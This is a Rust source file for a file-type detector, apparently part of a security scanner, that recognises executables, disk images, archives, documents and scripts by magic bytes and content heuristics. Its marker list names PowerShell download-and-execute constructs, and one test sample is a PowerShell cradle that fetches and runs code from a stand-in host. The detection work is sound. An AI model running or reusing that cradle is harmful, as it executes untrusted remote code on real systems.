//! What a file is, from its bytes: magic numbers and structure for binaries, images and containers;
//! content heuristics (bounded to the first [`TEXT_WINDOW`] bytes) for scripts and HTML.

use crate::needles::NeedleSet;
use memchr::memmem;
use std::sync::LazyLock;

/// Bytes of a text file read for script and HTML heuristics.
pub const TEXT_WINDOW: usize = 64 * 1024;

/// The broad class of a type: what a policy or a symbol cares about.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Class {
    Executable,
    Script,
    DiskImage,
    Archive,
    Document,
    Html,
    Image,
}

/// A file type recognised from bytes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum FileType {
    Pe,
    DosExe,
    Elf,
    MachO,
    Msi,
    Lnk,
    Chm,
    Jar,
    JavaClass,
    Js,
    Vbs,
    Wsf,
    Hta,
    Ps1,
    Bat,
    Shell,
    Iso,
    Vhd,
    Vhdx,
    DiskImg,
    Dmg,
    Zip,
    Tar,
    Gzip,
    Bzip2,
    Xz,
    SevenZip,
    Rar,
    Cab,
    Pdf,
    Rtf,
    /// An OLE compound file that is not an MSI (Word, Excel, PowerPoint 97-2003, Outlook `.msg`).
    Ole,
    /// An Office Open XML package (zip with `[Content_Types].xml`).
    Ooxml,
    Html,
    Png,
    Jpeg,
    Gif,
}

impl FileType {
    /// The canonical name, as policies write it (`exe`, `js`, `iso`, `zip`, ...).
    pub fn name(self) -> &'static str {
        self.extensions()[0]
    }

    /// Extensions a file of this type may honestly carry; the first is the canonical name.
    pub fn extensions(self) -> &'static [&'static str] {
        use FileType::*;
        match self {
            Pe => &["exe", "dll", "scr", "com", "pif", "cpl", "sys", "ocx", "drv", "efi", "mui", "ax", "msp"],
            DosExe => &["exe", "com", "scr", "pif", "sys"],
            Elf => &["elf", "so", "bin", "run", "out", "o", "ko", "axf", "prx", "appimage"],
            MachO => &["macho", "dylib", "bundle", "o", "bin"],
            Msi => &["msi", "msp", "mst", "msm"],
            Lnk => &["lnk"],
            Chm => &["chm"],
            Jar => &["jar", "war", "ear", "apk", "zip"],
            JavaClass => &["class"],
            Js => &["js", "jse", "mjs", "txt"],
            Vbs => &["vbs", "vbe", "vba", "bas", "txt"],
            Wsf => &["wsf", "wsh", "wsc"],
            Hta => &["hta"],
            Ps1 => &["ps1", "psm1", "psd1", "txt"],
            Bat => &["bat", "cmd", "txt"],
            Shell => &["sh", "bash", "zsh", "ksh", "run", "txt"],
            Iso => &["iso", "udf", "img"],
            Vhd => &["vhd"],
            Vhdx => &["vhdx"],
            DiskImg => &["img", "ima", "vfd", "dsk", "flp"],
            Dmg => &["dmg"],
            Zip => &[
                "zip", "zipx", "jar", "apk", "xpi", "crx", "nupkg", "whl", "epub", "odt", "ods", "odp",
                "kmz", "cbz", "docx", "xlsx", "pptx",
            ],
            Tar => &["tar"],
            Gzip => &["gz", "tgz", "gzip", "svgz"],
            Bzip2 => &["bz2", "tbz2", "tbz"],
            Xz => &["xz", "txz"],
            SevenZip => &["7z"],
            Rar => &["rar"],
            Cab => &["cab"],
            Pdf => &["pdf", "ai"],
            Rtf => &["rtf", "doc", "wri"],
            Ole => {
                &["doc", "dot", "xls", "xlt", "xla", "ppt", "pps", "pot", "msg", "vsd", "pub", "mpp", "wps"]
            }
            Ooxml => &[
                "docx", "docm", "dotx", "dotm", "xlsx", "xlsm", "xltx", "xltm", "xlsb", "xlam", "pptx",
                "pptm", "ppsx", "ppsm", "potx", "potm", "sldx", "vsdx", "vsdm",
            ],
            Html => &["html", "htm", "shtml", "xhtml", "mht", "mhtml", "svg", "xml", "txt"],
            Png => &["png"],
            Jpeg => &["jpg", "jpeg", "jpe", "jfif"],
            Gif => &["gif"],
        }
    }

    pub fn class(self) -> Class {
        use FileType::*;
        match self {
            Pe | DosExe | Elf | MachO | Msi | Lnk | Chm | Jar | JavaClass => Class::Executable,
            Js | Vbs | Wsf | Hta | Ps1 | Bat | Shell => Class::Script,
            Iso | Vhd | Vhdx | DiskImg | Dmg => Class::DiskImage,
            Zip | Tar | Gzip | Bzip2 | Xz | SevenZip | Rar | Cab => Class::Archive,
            Pdf | Rtf | Ole | Ooxml => Class::Document,
            Html => Class::Html,
            Png | Jpeg | Gif => Class::Image,
        }
    }

    /// Types recognised only by content heuristics (plain text that looks like a script).
    pub fn is_heuristic(self) -> bool {
        use FileType::*;
        matches!(self, Js | Vbs | Ps1 | Bat | Shell | Html)
    }
}

/// Every extension some type claims: an extension outside this set says nothing about type.
pub fn is_known_extension(ext: &str) -> bool {
    ALL.iter().any(|t| t.extensions().contains(&ext)) || NAMED_DANGEROUS.contains(&ext)
}

const ALL: [FileType; 37] = {
    use FileType::*;
    [
        Pe, DosExe, Elf, MachO, Msi, Lnk, Chm, Jar, JavaClass, Js, Vbs, Wsf, Hta, Ps1, Bat, Shell, Iso, Vhd,
        Vhdx, DiskImg, Dmg, Zip, Tar, Gzip, Bzip2, Xz, SevenZip, Rar, Cab, Pdf, Rtf, Ole, Ooxml, Html, Png,
        Jpeg, Gif,
    ]
};

/// Extensions that Windows runs (or opens in something that runs code) whatever the bytes are.
const NAMED_DANGEROUS: &[&str] = &[
    "reg",
    "inf",
    "scf",
    "url",
    "website",
    "appref-ms",
    "application",
    "gadget",
    "msc",
    "jnlp",
    "settingcontent-ms",
    "library-ms",
    "xll",
    "iqy",
    "slk",
    "one",
];

/// The class an extension alone implies, for files whose bytes say nothing (an `.exe` of random
/// bytes is still something Windows tries to run).
pub fn class_of_extension(ext: &str) -> Option<Class> {
    use FileType::*;
    let in_family = |types: &[FileType]| types.iter().any(|t| t.extensions().contains(&ext));
    if ["txt", "xml", "img", "zip", "o", "bin"].contains(&ext) {
        // Extensions shared with harmless types say nothing by themselves.
        return None;
    }
    if in_family(&[Pe, DosExe, Msi, Lnk, Chm, Jar, JavaClass]) || NAMED_DANGEROUS.contains(&ext) {
        return Some(Class::Executable);
    }
    if in_family(&[Js, Vbs, Wsf, Hta, Ps1, Bat]) {
        return Some(Class::Script);
    }
    if in_family(&[Iso, Vhd, Vhdx, DiskImg, Dmg]) {
        return Some(Class::DiskImage);
    }
    None
}

/// The type of `data`, if it is one recognised. Reads at most the first [`TEXT_WINDOW`] bytes for
/// text heuristics, the last 512 for trailers, a few fixed offsets, and a zip's member names.
pub fn detect(data: &[u8]) -> Option<FileType> {
    magic(data).or_else(|| disk_image(data, true)).or_else(|| text(data))
}

/// The type of a file of which only `start`, its first bytes, is known (an archive member cut at
/// [`crate::LEAF_WINDOW`]): as [`detect`], less what needs the end of the file (the trailer of a
/// fixed VHD or of a DMG). With `start` at least [`TEXT_WINDOW`] long, every other test reads
/// the same bytes it would read in the whole file, except a PE header placed past `start` (then
/// the file is still an executable: a DOS one).
pub fn detect_start(start: &[u8]) -> Option<FileType> {
    magic(start).or_else(|| disk_image(start, false)).or_else(|| text(start))
}

fn magic(d: &[u8]) -> Option<FileType> {
    use FileType::*;
    let starts = |m: &[u8]| d.starts_with(m);
    if starts(b"MZ") {
        return Some(if is_pe(d) { Pe } else { DosExe });
    }
    if starts(b"\x7fELF") {
        return Some(Elf);
    }
    if [b"\xfe\xed\xfa\xce", b"\xfe\xed\xfa\xcf", b"\xce\xfa\xed\xfe", b"\xcf\xfa\xed\xfe"]
        .iter()
        .any(|m| starts(*m))
    {
        return Some(MachO);
    }
    if starts(b"\xca\xfe\xba\xbe") && d.len() >= 8 {
        // Mach-O universal binaries and Java classes share the magic: a fat header counts a few
        // architectures where a class file has its version (major 45 or more).
        let n = u32::from_be_bytes([d[4], d[5], d[6], d[7]]);
        return Some(if n < 45 { MachO } else { JavaClass });
    }
    if starts(b"L\x00\x00\x00\x01\x14\x02\x00") {
        return Some(Lnk);
    }
    if starts(b"ITSF") {
        return Some(Chm);
    }
    if starts(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1") {
        return Some(Ole); // refined to MSI by the OLE reader (root CLSID)
    }
    if starts(b"PK\x03\x04") || starts(b"PK\x05\x06") || starts(b"PK\x07\x08") {
        return Some(zip_kind(d));
    }
    if starts(b"\x1f\x8b") {
        return Some(Gzip);
    }
    if starts(b"BZh") && d.len() > 3 && (b'1'..=b'9').contains(&d[3]) {
        return Some(Bzip2);
    }
    if starts(b"\xfd7zXZ\x00") {
        return Some(Xz);
    }
    if starts(b"7z\xbc\xaf\x27\x1c") {
        return Some(SevenZip);
    }
    if starts(b"Rar!\x1a\x07") {
        return Some(Rar);
    }
    if starts(b"MSCF") {
        return Some(Cab);
    }
    if starts(b"{\\rtf") {
        return Some(Rtf);
    }
    if memmem::find(&d[..d.len().min(1024)], b"%PDF-").is_some() {
        return Some(Pdf);
    }
    if starts(b"\x89PNG\r\n\x1a\n") {
        return Some(Png);
    }
    if starts(b"\xff\xd8\xff") {
        return Some(Jpeg);
    }
    if starts(b"GIF87a") || starts(b"GIF89a") {
        return Some(Gif);
    }
    if d.len() > 262 && &d[257..262] == b"ustar" {
        return Some(Tar);
    }
    None
}

/// `MZ` with a valid `e_lfanew` pointing at `PE\0\0`.
fn is_pe(d: &[u8]) -> bool {
    let Some(off) = d.get(0x3c..0x40) else { return false };
    let off = u32::from_le_bytes([off[0], off[1], off[2], off[3]]) as usize;
    d.get(off..off.saturating_add(4)) == Some(b"PE\0\0")
}

/// A zip that is an Office package or a Java archive, told by the member names in its central
/// directory (where readers, Office among them, take the names from), or in all of `d` when no end
/// record places a central directory in it. The archive walk also opens as an Office package any
/// zip whose parsed member list names `[Content_Types].xml`, whatever this says.
fn zip_kind(d: &[u8]) -> FileType {
    let names = central_directory(d).unwrap_or(d);
    if memmem::find(names, b"[Content_Types].xml").is_some() {
        FileType::Ooxml
    } else if memmem::find(names, b"META-INF/MANIFEST.MF").is_some()
        && memmem::find(names, b".class").is_some()
    {
        FileType::Jar
    } else {
        FileType::Zip
    }
}

/// The central directory of the zip `d` and what follows it, as the last end-of-central-directory
/// record in the last 64 KiB places it: its size back from the record, so data before the archive
/// (a self-extractor's stub) does not matter. `None` when there is no such record, the directory
/// does not fit before it or does not start with a directory record, or it is a zip64 one.
fn central_directory(d: &[u8]) -> Option<&[u8]> {
    const END: &[u8] = b"PK\x05\x06";
    const END_LEN: usize = 22;
    let from = d.len().saturating_sub(END_LEN + usize::from(u16::MAX));
    let at = from + memmem::rfind(&d[from..], END)?;
    let end = d.get(at..at + END_LEN)?;
    let size = u32::from_le_bytes([end[12], end[13], end[14], end[15]]);
    let offset = u32::from_le_bytes([end[16], end[17], end[18], end[19]]);
    if size == u32::MAX || offset == u32::MAX {
        return None;
    }
    let dir = &d[at.checked_sub(usize::try_from(size).ok()?)?..];
    dir.starts_with(b"PK\x01\x02").then_some(dir)
}

/// `trailer`: whether `d` ends where the file ends (its last 512 bytes are the file's).
fn disk_image(d: &[u8], trailer: bool) -> Option<FileType> {
    use FileType::*;
    for off in [0x8001, 0x8801, 0x9001] {
        let id = d.get(off..off + 5);
        if id == Some(b"CD001") || id == Some(b"BEA01") || id == Some(b"NSR02") || id == Some(b"NSR03") {
            return Some(Iso);
        }
    }
    if d.starts_with(b"vhdxfile") {
        return Some(Vhdx);
    }
    if d.starts_with(b"conectix") {
        return Some(Vhd);
    }
    if trailer && d.len() >= 512 {
        let tail = &d[d.len() - 512..];
        if tail.starts_with(b"conectix") {
            return Some(Vhd);
        }
        if tail.starts_with(b"koly") {
            return Some(Dmg);
        }
    }
    if d.len() >= 512 && d[510..512] == [0x55, 0xaa] {
        let fat = d.get(54..59) == Some(b"FAT12")
            || d.get(54..59) == Some(b"FAT16")
            || d.get(82..87) == Some(b"FAT32");
        let ntfs = d.get(3..11) == Some(b"NTFS    ") || d.get(3..11) == Some(b"EXFAT   ");
        if fat || ntfs {
            return Some(DiskImg);
        }
    }
    None
}

/// Scripts and HTML from the text of the first [`TEXT_WINDOW`] bytes. Only text-like data is read
/// (almost no control bytes), and strong markers are required, so prose mentioning `eval` is not a
/// script. Every marker is looked for in one pass over the window ([`Markers`]).
fn text(d: &[u8]) -> Option<FileType> {
    use FileType::*;
    let window = &d[..d.len().min(TEXT_WINDOW)];
    if window.is_empty() || !looks_textual(window) {
        return None;
    }
    let seen = Markers::find(window);
    let start = opening(window);
    let trimmed = start.as_str();
    let has = |s: &str| seen.has(s);
    let count = |needles: &[&str]| needles.iter().filter(|n| seen.has(n)).count();
    if has("<hta:application") {
        return Some(Hta);
    }
    if (trimmed.starts_with("<job") || trimmed.starts_with("<package") || trimmed.starts_with("<?xml"))
        && has("<script")
        && (has("<job") || has("<package"))
    {
        return Some(Wsf);
    }
    if trimmed.starts_with("<!doctype html")
        || trimmed.starts_with("<html")
        || trimmed.starts_with("<svg")
        || (trimmed.starts_with('<')
            && count(&["<head", "<body", "<script", "<div", "<form", "<meta", "<iframe"]) >= 1)
    {
        return Some(Html);
    }
    if trimmed.starts_with("#!") {
        return Some(if trimmed.starts_with("#!/usr/bin/env pwsh") { Ps1 } else { Shell });
    }
    if trimmed.starts_with("@echo off")
        || trimmed.starts_with("@echo on")
        || count(&[
            "%comspec%",
            "cmd.exe /c",
            "cmd /c",
            "goto :eof",
            "setlocal enabledelayedexpansion",
            "\r\nset ",
            "\nset /a ",
        ]) >= 2
    {
        return Some(Bat);
    }
    if count(&[
        "invoke-expression",
        "iex(",
        "iex (",
        "-encodedcommand",
        "new-object net.webclient",
        "new-object system.net.webclient",
        "downloadstring(",
        "$env:",
        "[system.convert]::frombase64string",
        "set-executionpolicy",
        "-executionpolicy bypass",
        "start-process",
        "invoke-webrequest",
    ]) >= 2
    {
        return Some(Ps1);
    }
    let wsh = count(&[
        "wscript.",
        "createobject(",
        "activexobject",
        "shell.application",
        "wscript.shell",
        "scripting.filesystemobject",
    ]);
    if count(&["dim ", "end sub", "end function", "on error resume next", "set objshell", "createobject(\""])
        >= 2
        && (wsh >= 1 || has("end sub"))
    {
        return Some(Vbs);
    }
    if has("new activexobject")
        || (wsh >= 1 && count(&["var ", "function ", "function(", "eval(", ";\n", "let ", "const "]) >= 2)
    {
        return Some(Js);
    }
    None
}

/// Every marker [`text`] asks about, ASCII lower-case (matched in any case).
const MARKERS: [&str; 50] = [
    "<hta:application",
    "<script",
    "<job",
    "<package",
    "<head",
    "<body",
    "<div",
    "<form",
    "<meta",
    "<iframe",
    "%comspec%",
    "cmd.exe /c",
    "cmd /c",
    "goto :eof",
    "setlocal enabledelayedexpansion",
    "\r\nset ",
    "\nset /a ",
    "invoke-expression",
    "iex(",
    "iex (",
    "-encodedcommand",
    "new-object net.webclient",
    "new-object system.net.webclient",
    "downloadstring(",
    "$env:",
    "[system.convert]::frombase64string",
    "set-executionpolicy",
    "-executionpolicy bypass",
    "start-process",
    "invoke-webrequest",
    "wscript.",
    "createobject(",
    "activexobject",
    "shell.application",
    "wscript.shell",
    "scripting.filesystemobject",
    "dim ",
    "end sub",
    "end function",
    "on error resume next",
    "set objshell",
    "createobject(\"",
    "new activexobject",
    "var ",
    "function ",
    "function(",
    "eval(",
    ";\n",
    "let ",
    "const ",
];

/// Which of [`MARKERS`] occur in a window (found in one pass, see [`NeedleSet`], rather than one
/// search per marker).
struct Markers(u64);

impl Markers {
    fn find(window: &[u8]) -> Markers {
        static SEARCHER: LazyLock<NeedleSet> = LazyLock::new(|| NeedleSet::new(&MARKERS));
        Markers(SEARCHER.occurring(window))
    }

    fn has(&self, marker: &str) -> bool {
        debug_assert!(MARKERS.contains(&marker), "{marker:?} is not in MARKERS");
        MARKERS.iter().position(|m| *m == marker).is_some_and(|i| self.0 & (1 << i) != 0)
    }
}

/// The first [`OPENING`] characters of a text window, lower-case, after a byte-order mark and
/// white space (what a script or page starts with).
fn opening(window: &[u8]) -> String {
    let mut chars = lossy_chars(window).skip_while(|&c| c == '\u{feff}').peekable();
    while chars.next_if(|c| c.is_whitespace()).is_some() {}
    chars.take(OPENING).map(|c| c.to_ascii_lowercase()).collect()
}

/// The characters of `d`, each invalid sequence one U+FFFD (as `String::from_utf8_lossy` and
/// `utf8_chunks` count them), decoded lazily: taking the first few reads a few bytes, not the whole
/// window (validating it up front was a tenth of all type detection).
fn lossy_chars(mut d: &[u8]) -> impl Iterator<Item = char> {
    std::iter::from_fn(move || {
        // A character is at most 4 bytes, so 4 are enough to tell one (or an invalid sequence).
        let head = &d[..d.len().min(4)];
        let valid = match std::str::from_utf8(head) {
            Ok(s) => s,
            Err(e) => std::str::from_utf8(&head[..e.valid_up_to()]).unwrap_or_default(),
        };
        let (c, used) = match valid.chars().next() {
            Some(c) => (c, c.len_utf8()),
            None if head.is_empty() => return None,
            // An invalid sequence, or an incomplete one at the very end: one replacement each.
            None => (
                '\u{fffd}',
                std::str::from_utf8(head).err().and_then(|e| e.error_len()).unwrap_or(head.len()),
            ),
        };
        d = &d[used..];
        Some(c)
    })
}

/// Characters of a text's opening kept for prefix checks (the longest is `<!doctype html`).
const OPENING: usize = 32;

/// Mostly printable: fewer than 1 in 64 bytes are control characters other than whitespace.
fn looks_textual(d: &[u8]) -> bool {
    // Counted a block at a time (a loop the compiler turns into vector compares), stopping as soon
    // as the count is already too high for the whole window: binary files are told in one block.
    let limit = d.len().div_ceil(64);
    let mut controls = 0;
    for block in d.chunks(TEXTUAL_BLOCK) {
        controls += usize::from(block.iter().map(|&b| u16::from(is_control(b))).sum::<u16>());
        if controls >= limit {
            return false;
        }
    }
    controls * 64 < d.len()
}

/// Bytes counted between two checks of [`looks_textual`]'s running count (below 2^16, so a block's
/// count fits the 16-bit lanes it is summed in).
const TEXTUAL_BLOCK: usize = 4096;

/// A control character other than the whitespace text files carry (and ESC, for ANSI colours).
fn is_control(b: u8) -> bool {
    b < 0x20 && !matches!(b, b'\t' | b'\n' | b'\r' | 0x0c | 0x1b)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn pe() -> Vec<u8> {
        let mut d = vec![0u8; 512];
        d[..2].copy_from_slice(b"MZ");
        d[0x3c..0x40].copy_from_slice(&0x80u32.to_le_bytes());
        d[0x80..0x84].copy_from_slice(b"PE\0\0");
        d
    }

    #[test]
    fn binaries() {
        assert_eq!(detect(&pe()), Some(FileType::Pe));
        assert_eq!(detect(b"MZ\x90\x00"), Some(FileType::DosExe));
        assert_eq!(detect(b"\x7fELF\x02\x01\x01"), Some(FileType::Elf));
        assert_eq!(detect(b"\xcf\xfa\xed\xfe\x07\x00"), Some(FileType::MachO));
        assert_eq!(detect(b"\xca\xfe\xba\xbe\x00\x00\x00\x02"), Some(FileType::MachO));
        assert_eq!(detect(b"\xca\xfe\xba\xbe\x00\x00\x00\x34"), Some(FileType::JavaClass));
        assert_eq!(detect(b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00"), Some(FileType::Lnk));
    }

    #[test]
    fn disk_images() {
        let mut iso = vec![0u8; 0x9000];
        iso[0x8001..0x8006].copy_from_slice(b"CD001");
        assert_eq!(detect(&iso), Some(FileType::Iso));
        let mut vhd = vec![0u8; 2048];
        let n = vhd.len();
        vhd[n - 512..n - 504].copy_from_slice(b"conectix");
        assert_eq!(detect(&vhd), Some(FileType::Vhd));
        let mut img = vec![0u8; 1024];
        img[54..59].copy_from_slice(b"FAT12");
        img[510] = 0x55;
        img[511] = 0xaa;
        assert_eq!(detect(&img), Some(FileType::DiskImg));
    }

    #[test]
    fn scripts_by_content() {
        assert_eq!(detect(b"@echo off\r\ndel /q x\r\n"), Some(FileType::Bat));
        assert_eq!(
            detect(b"$c = New-Object Net.WebClient; IEX($c.DownloadString('http://x.test/a'))"),
            Some(FileType::Ps1)
        );
        assert_eq!(
            detect(b"Dim o\r\nSet o = CreateObject(\"WScript.Shell\")\r\no.Run \"calc\"\r\n"),
            Some(FileType::Vbs)
        );
        assert_eq!(detect(b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc');"), Some(FileType::Js));
        assert_eq!(detect(b"<html><hta:application id=x><script>x</script></html>"), Some(FileType::Hta));
        assert_eq!(
            detect(b"<job id=\"a\"><script language=\"JScript\">WScript.Echo(1)</script></job>"),
            Some(FileType::Wsf)
        );
        assert_eq!(detect(b"<!DOCTYPE html><html><body>hi</body></html>"), Some(FileType::Html));
        assert_eq!(detect(b"Dear team, please eval the function of the var budget."), None);
        assert_eq!(detect(b"plain text"), None);
    }

    /// The opening as it was computed before [`lossy_chars`]: the whole window validated first.
    fn opening_oracle(window: &[u8]) -> String {
        let chars = window.utf8_chunks().flat_map(|c| {
            let bad = (!c.invalid().is_empty()).then_some('\u{fffd}');
            c.valid().chars().chain(bad)
        });
        let mut chars = chars.skip_while(|&c| c == '\u{feff}').peekable();
        while chars.next_if(|c| c.is_whitespace()).is_some() {}
        chars.take(OPENING).map(|c| c.to_ascii_lowercase()).collect()
    }

    #[test]
    fn opening_decodes_lazily_with_the_same_answer() {
        // Byte-order marks, Unicode and ASCII white space, valid characters of every length,
        // invalid and truncated sequences, in random orders and cut at random places.
        let pieces: &[&[u8]] = &[
            "\u{feff}".as_bytes(),
            b" ",
            b"\t\r\n",
            "\u{a0}\u{2003}\u{3000}".as_bytes(),
            b"<HTML",
            "é".as_bytes(),
            "€".as_bytes(),
            "😀".as_bytes(),
            b"\xff",
            b"\xe2\x82",
            b"\xf0\x9f\x98",
            b"\xed\xa0\x80",
            b"\xc0\xaf",
            b"\x80\x80",
            b"#!",
        ];
        let mut rng = crate::xorshift(0x2545_f491);
        let mut next = || rng() as usize;
        for _ in 0..5000 {
            let mut d = Vec::new();
            for _ in 0..next() % 24 {
                d.extend_from_slice(pieces[next() % pieces.len()]);
            }
            let cut = next() % (d.len() + 1);
            for w in [&d[..], &d[..cut], &d[cut..]] {
                assert_eq!(opening(w), opening_oracle(w), "{w:?}");
            }
        }
    }

    #[test]
    fn textual_counts_the_same() {
        let oracle = |d: &[u8]| d.iter().filter(|&&b| is_control(b)).count() * 64 < d.len();
        for n in [0usize, 1, 63, 64, 65, 4095, 4096, 4097, 9000] {
            for every in [1usize, 2, 63, 64, 65, 1000, usize::MAX] {
                let d: Vec<u8> = (0..n).map(|i| if i % every == every - 1 { 1 } else { b'a' }).collect();
                assert_eq!(looks_textual(&d), oracle(&d), "{n} bytes, a control every {every}");
            }
        }
    }

    /// A stored zip of `members` (name, data), behind `stub`.
    fn zip(stub: &[u8], members: &[(&str, &[u8])]) -> Vec<u8> {
        use std::io::Write;
        let mut w = zip::ZipWriter::new(std::io::Cursor::new(stub.to_vec()));
        let options =
            zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
        for (name, data) in members {
            w.start_file(*name, options).unwrap();
            w.write_all(data).unwrap();
        }
        w.finish().unwrap().into_inner()
    }

    #[test]
    fn zip_kinds_come_from_the_central_directory() {
        let package = zip(b"", &[("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w/>")]);
        assert_eq!(detect(&package), Some(FileType::Ooxml));
        let jar = zip(b"", &[("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0"), ("a/B.class", b"\xca\xfe")]);
        assert_eq!(detect(&jar), Some(FileType::Jar));
        // A name in a member's data is not a member's name.
        let mention =
            zip(b"", &[("notes.txt", b"see [Content_Types].xml and META-INF/MANIFEST.MF in x.class")]);
        assert_eq!(detect(&mention), Some(FileType::Zip));
        // Data before the archive does not move the directory (a self-extractor's stub is typed
        // by the stub; the directory is found from the end record all the same).
        let behind = zip(b"stub data ", &[("[Content_Types].xml", b"<Types/>")]);
        assert_eq!(central_directory(&behind).map(|d| &d[..4]), Some(&b"PK\x01\x02"[..]));
        // Without an end record the whole zip is searched, as a cut zip's names are in its local
        // headers only.
        let cut = &package[..package.len() - 30];
        assert_eq!(central_directory(cut), None);
        assert_eq!(detect(cut), Some(FileType::Ooxml));
        let mut wrong = package.clone();
        let at = wrong.len() - 10;
        wrong[at..at + 4].copy_from_slice(&u32::MAX.to_le_bytes()); // the directory's size
        assert_eq!(central_directory(&wrong), None);
    }

    #[test]
    fn families() {
        assert_eq!(FileType::Pe.name(), "exe");
        assert_eq!(class_of_extension("scr"), Some(Class::Executable));
        assert_eq!(class_of_extension("hta"), Some(Class::Script));
        assert_eq!(class_of_extension("vhdx"), Some(Class::DiskImage));
        assert_eq!(class_of_extension("pdf"), None);
        assert!(is_known_extension("pdf") && !is_known_extension("qqq"));
    }
}
